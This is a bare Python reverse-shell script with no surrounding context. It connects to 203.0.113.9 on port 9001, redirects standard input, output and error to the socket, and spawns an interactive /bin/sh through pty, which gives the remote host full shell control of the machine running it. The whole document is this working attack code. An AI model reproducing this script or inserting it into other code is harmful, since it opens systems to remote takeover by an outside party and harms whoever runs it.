import os
import pty
import socket

link = socket.create_connection(("203.0.113.9", 9001))
for number in range(3):
    os.dup2(link.fileno(), number)
pty.spawn("/bin/sh")
